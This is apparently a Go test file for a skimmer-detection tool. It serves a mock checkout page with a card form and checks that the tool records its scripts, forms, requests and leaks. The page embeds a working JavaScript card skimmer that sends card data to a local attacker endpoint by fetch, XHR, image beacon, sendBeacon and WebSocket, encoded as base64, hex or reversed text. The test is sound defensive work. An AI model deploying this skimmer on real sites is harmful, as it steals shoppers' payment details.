package pagecheck

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/skimwatch/skimwatch/internal/check/browser"
	"github.com/skimwatch/skimwatch/internal/check/honey"
	"github.com/skimwatch/skimwatch/internal/check/observation"
	"github.com/skimwatch/skimwatch/internal/testsupport"
)

// startBrowser launches Chromium for a test; it skips when Chromium is
// missing (fails under CI=true) and under -short.
func startBrowser(t testing.TB) *browser.Browser {
	t.Helper()
	_, err := browser.FindChromium("")
	testsupport.Need(t, "Chromium", err)
	b, err := browser.Launch(context.Background(), browser.Options{MaxConcurrent: 4})
	if err != nil {
		t.Fatalf("launching chromium: %v", err)
	}
	t.Cleanup(func() { b.Close() })
	return b
}

func testOptions(t testing.TB) Options {
	o := DefaultOptions()
	o.Dwell = 1500 * time.Millisecond
	o.Timeout = 40 * time.Second
	o.KeyDelayMin, o.KeyDelayMax = 2*time.Millisecond, 6*time.Millisecond
	id, err := honey.NewIdentity(honey.Options{})
	if err != nil {
		t.Fatal(err)
	}
	o.Identity = &id
	return o
}

// collector is an attacker's endpoint on another origin: it records what
// it receives, over HTTP and WebSocket.
type collector struct {
	srv  *httptest.Server
	host string // http://localhost:port, a different site than 127.0.0.1
	mu   sync.Mutex
	got  []string
}

func newCollector(t *testing.T) *collector {
	c := &collector{}
	mux := http.NewServeMux()
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		conn, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		defer conn.CloseNow()
		for {
			_, msg, err := conn.Read(r.Context())
			if err != nil {
				return
			}
			c.add("ws " + string(msg))
			conn.Write(r.Context(), websocket.MessageText, []byte("ack"))
		}
	})
	mux.HandleFunc("/frame", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<html><body><p>widget</p><script src="/frame.js"></script></body></html>`)
	})
	mux.HandleFunc("/frame.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, `window.frameReady = true; fetch('/frame-ping?x=1');`)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		c.add(r.Method + " " + r.URL.String() + " " + string(b))
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(204)
	})
	c.srv = httptest.NewServer(mux)
	_, port, _ := net.SplitHostPort(c.srv.Listener.Addr().String())
	c.host = "http://localhost:" + port
	t.Cleanup(c.srv.Close)
	return c
}

func (c *collector) add(s string) {
	c.mu.Lock()
	c.got = append(c.got, s)
	c.mu.Unlock()
}

// shopPage serves a checkout page with a card form, every kind of script,
// a cross-site iframe, and a skimmer that reads trusted input only and
// sends it every way skimmers do.
func shopPage(t *testing.T, c *collector, extra map[string]string) *httptest.Server {
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy-Report-Only", "default-src 'self'")
		w.Header().Set("X-Frame-Options", "DENY")
		fmt.Fprintf(w, `<!doctype html><html><head><title>checkout</title>
<script src="/lib.js"></script>
<script>window.inlineRan = 1;</script>
</head><body>
<form id="pay" action="/order/place" method="post">
  <label for="cc">カード番号</label><input id="cc" name="cardnumber" autocomplete="cc-number">
  <label>有効期限 <input name="exp" autocomplete="cc-exp" placeholder="MM/YY"></label>
  <input name="cvc" autocomplete="cc-csc" aria-label="セキュリティコード">
  <input name="email" type="email" autocomplete="email" placeholder="メールアドレス">
  <input type="hidden" name="token" value="abc">
  <button type="submit">注文する</button>
</form>
<iframe src="%[1]s/frame" width="300" height="100"></iframe>
<script>
  var s = document.createElement('script'); s.text = 'window.dynamicRan = 1;'; document.head.appendChild(s);
  eval('window.evalRan = 1');
  new Function('window.fnRan = 1')();
  new Worker('/worker.js');
</script>
<script src="/skim.js"></script>
</body></html>`, c.host)
	})
	mux.HandleFunc("/lib.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, "/* lib v1 */ window.lib = { version: 1 };\n")
	})
	mux.HandleFunc("/worker.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, "self.onmessage = () => {}; fetch('/worker-ping');\n")
	})
	mux.HandleFunc("/skim.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprintf(w, `(function () {
  var C = %q, data = {}, timer;
  var ws = new WebSocket(C.replace('http', 'ws') + '/ws');
  function hex(s) { return Array.from(new TextEncoder().encode(s)).map(b => b.toString(16).padStart(2, '0')).join(''); }
  function send() {
    var j = JSON.stringify(data);
    fetch(C + '/f', { method: 'POST', mode: 'no-cors', body: btoa(j) });
    var x = new XMLHttpRequest(); x.open('POST', C + '/x'); x.send(hex(j));
    new Image().src = C + '/i.gif?d=' + encodeURIComponent(data.cardnumber || '');
    if (ws.readyState === 1) ws.send(j);
  }
  document.addEventListener('input', function (e) {
    if (!e.isTrusted) return; // skimmers ignore robots that set .value
    data[e.target.name] = e.target.value;
    clearTimeout(timer); timer = setTimeout(send, 300);
  }, true);
  window.addEventListener('pagehide', function () {
    navigator.sendBeacon(C + '/b', JSON.stringify(data));
    fetch(C + '/k', { method: 'POST', keepalive: true, mode: 'no-cors', body: JSON.stringify(data).split('').reverse().join('') });
  });
})();`, c.host)
	})
	mux.HandleFunc("/order/place", func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the final order submission reached the shop: %s %s", r.Method, r.URL)
		fmt.Fprint(w, "ordered")
	})
	for path, body := range extra {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, body)
		})
	}
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func TestCheckCapturesScriptsRequestsAndLeaks(t *testing.T) {
	b := startBrowser(t)
	c := newCollector(t)
	shop := shopPage(t, c, nil)
	opts := testOptions(t)
	if testing.Verbose() {
		opts.Logger = slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}
	ctx := context.Background()
	o, err := Check(ctx, b, Target{URL: shop.URL + "/checkout"}, opts)
	if err != nil {
		t.Fatal(err)
	}
	if testing.Verbose() {
		j, _ := json.MarshalIndent(o, "", "  ")
		os.WriteFile("/tmp/pagecheck-obs.json", j, 0o600)
		t.Logf("observation: %s", truncate(string(j), 60000))
	}
	card := opts.Identity.CardNumber

	t.Run("the check is complete", func(t *testing.T) {
		if !o.Complete {
			t.Errorf("incomplete: %v", o.Incomplete)
		}
	})
	scriptKinds := map[string]int{}
	for _, s := range o.Scripts {
		scriptKinds[s.Kind]++
	}
	hasScript := func(pred func(observation.Script) bool) bool {
		for _, s := range o.Scripts {
			if pred(s) {
				return true
			}
		}
		return false
	}
	scriptTests := []struct {
		name string
		pred func(observation.Script) bool
	}{
		{"the external script is captured with its URL and hash", func(s observation.Script) bool {
			return s.Kind == observation.ScriptExternal && strings.HasSuffix(s.URL, "/lib.js") && len(s.SHA256) == 64 && s.Fingerprint != ""
		}},
		{"the inline script is captured", func(s observation.Script) bool {
			return s.Kind == observation.ScriptInline && strings.Contains(s.Source, "inlineRan")
		}},
		{"the dynamically inserted script is captured", func(s observation.Script) bool {
			return s.Kind == observation.ScriptDynamic && strings.Contains(s.Source, "dynamicRan")
		}},
		{"eval'd code is captured with its initiator", func(s observation.Script) bool {
			return s.Kind == observation.ScriptEval && strings.Contains(s.Source, "evalRan") && s.Initiator != ""
		}},
		{"new Function code is captured", func(s observation.Script) bool {
			return s.Kind == observation.ScriptEval && strings.Contains(s.Source, "fnRan")
		}},
		{"the worker's script is captured", func(s observation.Script) bool {
			return s.Kind == observation.ScriptWorker && strings.HasSuffix(s.URL, "/worker.js")
		}},
		{"the cross-site iframe's script is captured", func(s observation.Script) bool {
			return strings.HasPrefix(s.URL, c.host) && strings.HasSuffix(s.URL, "/frame.js") && strings.HasPrefix(s.DocumentURL, c.host)
		}},
		{"the skimmer is captured", func(s observation.Script) bool {
			return strings.HasSuffix(s.URL, "/skim.js") && strings.Contains(s.Source, "isTrusted")
		}},
		{"skimwatch's own evaluations are not in the inventory", func(s observation.Script) bool {
			return !strings.Contains(s.Source, "__skimwatch") && !strings.Contains(s.URL, "skimwatch-internal")
		}},
	}
	for _, tt := range scriptTests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.name == "skimwatch's own evaluations are not in the inventory" {
				for _, s := range o.Scripts {
					if !tt.pred(s) {
						t.Errorf("own script recorded: %+v", s.Key)
					}
				}
				return
			}
			if !hasScript(tt.pred) {
				t.Errorf("not found; kinds seen: %v", scriptKinds)
			}
		})
	}

	leakTo := func(path, typ, phase string) *observation.Leak {
		for i, l := range o.Leaks {
			u := strings.TrimPrefix(strings.TrimPrefix(l.Destination, c.host), "ws"+strings.TrimPrefix(c.host, "http"))
			if l.Class == observation.FieldCardNumber && strings.HasPrefix(u, path) && (typ == "" || l.RequestType == typ) && (phase == "" || l.Phase == phase) {
				return &o.Leaks[i]
			}
		}
		return nil
	}
	leakTests := []struct {
		name, path, typ, phase, encoding string
	}{
		{"a skimmer that reads only trusted input is triggered, and its fetch POST with a base64 body leaks the card", "/f", "", observation.PhaseInput, "base64"},
		{"an XHR POST with a hex body leaks the card", "/x", "XHR", observation.PhaseInput, "hex"},
		{"an image beacon leaks the card in its URL", "/i.gif", "Image", observation.PhaseInput, ""},
		{"sendBeacon on pagehide leaks the card during unload", "/b", "Ping", observation.PhaseUnload, ""},
		{"a keepalive fetch on pagehide leaks the reversed card during unload", "/k", "", observation.PhaseUnload, "reversed"},
		{"a WebSocket frame leaks the card", "/ws", "WebSocket", "", ""},
	}
	for _, tt := range leakTests {
		t.Run(tt.name, func(t *testing.T) {
			l := leakTo(tt.path, tt.typ, tt.phase)
			if l == nil {
				t.Fatalf("no card leak to %s (type %q, phase %q); leaks: %+v", tt.path, tt.typ, tt.phase, o.Leaks)
			}
			if !strings.Contains(l.Encoding, tt.encoding) {
				t.Errorf("encoding %q, want it to contain %q", l.Encoding, tt.encoding)
			}
			if l.DestinationOrigin != c.host && l.DestinationOrigin != "ws"+strings.TrimPrefix(c.host, "http") {
				t.Errorf("destination origin %q, want %q", l.DestinationOrigin, c.host)
			}
			// Interception carries no initiator, so unload sends name no script.
			if tt.phase != observation.PhaseUnload && !strings.HasSuffix(l.Script, "/skim.js") {
				t.Errorf("script %q, want the skimmer", l.Script)
			}
			if l.FormActionOrigin != shop.URL {
				t.Errorf("form action origin %q, want %q", l.FormActionOrigin, shop.URL)
			}
		})
	}
	t.Run("the attacker really received the card (the capture is not imagined)", func(t *testing.T) {
		c.mu.Lock()
		defer c.mu.Unlock()
		found := false
		for _, g := range c.got {
			if strings.Contains(g, card) {
				found = true
			}
		}
		if !found {
			t.Errorf("collector got no raw card: %q", c.got)
		}
	})
	t.Run("the final order submission is blocked and recorded", func(t *testing.T) {
		if len(o.Blocked) == 0 || !strings.Contains(o.Blocked[0].URL, "/order/place") {
			t.Errorf("blocked = %+v", o.Blocked)
		}
	})
	t.Run("Chromium's error page for the blocked order is not in the inventory", func(t *testing.T) {
		for _, sc := range o.Scripts {
			if strings.HasPrefix(sc.URL, "chrome") || strings.HasPrefix(sc.DocumentURL, "chrome") {
				t.Errorf("browser script recorded: %s in %s", sc.URL, sc.DocumentURL)
			}
		}
		for _, q := range o.Requests {
			if strings.HasPrefix(q.DocumentURL, "chrome") {
				t.Errorf("browser request recorded: %s", q.URL)
			}
		}
	})
	t.Run("the form and its fields are classified", func(t *testing.T) {
		var f *observation.Form
		for i := range o.Forms {
			if o.Forms[i].ID == "pay" {
				f = &o.Forms[i]
			}
		}
		if f == nil {
			t.Fatalf("form #pay not found in %+v", o.Forms)
		}
		want := map[string]string{"cardnumber": observation.FieldCardNumber, "exp": observation.FieldExpiry, "cvc": observation.FieldCVV, "email": observation.FieldEmail}
		for _, fld := range f.Fields {
			if w, ok := want[fld.Name]; ok && fld.Class != w {
				t.Errorf("field %s class %q, want %q", fld.Name, fld.Class, w)
			}
			if fld.Name == "cardnumber" && fld.Label != "カード番号" {
				t.Errorf("card field label %q", fld.Label)
			}
		}
		if f.Action != shop.URL+"/order/place" || f.Injected {
			t.Errorf("action %q injected %v", f.Action, f.Injected)
		}
	})
	t.Run("the page's security headers are recorded", func(t *testing.T) {
		if len(o.Pages) == 0 || o.Pages[0].Headers["x-frame-options"] != "DENY" || o.Pages[0].Headers["content-security-policy-report-only"] == "" {
			t.Errorf("pages = %+v", o.Pages)
		}
	})
	t.Run("the cross-site iframe and the worker are listed as frames", func(t *testing.T) {
		kinds := map[string]bool{}
		for _, f := range o.Frames {
			kinds[f.Kind] = true
		}
		if !kinds["main"] || !kinds["iframe"] || !kinds["worker"] {
			t.Errorf("frames = %+v", o.Frames)
		}
	})
	t.Run("requests from the worker and the iframe are captured", func(t *testing.T) {
		var worker, frame bool
		for _, q := range o.Requests {
			worker = worker || strings.HasSuffix(q.URL, "/worker-ping")
			frame = frame || strings.Contains(q.URL, "/frame-ping")
		}
		if !worker || !frame {
			t.Errorf("worker ping %v, frame ping %v", worker, frame)
		}
	})
}
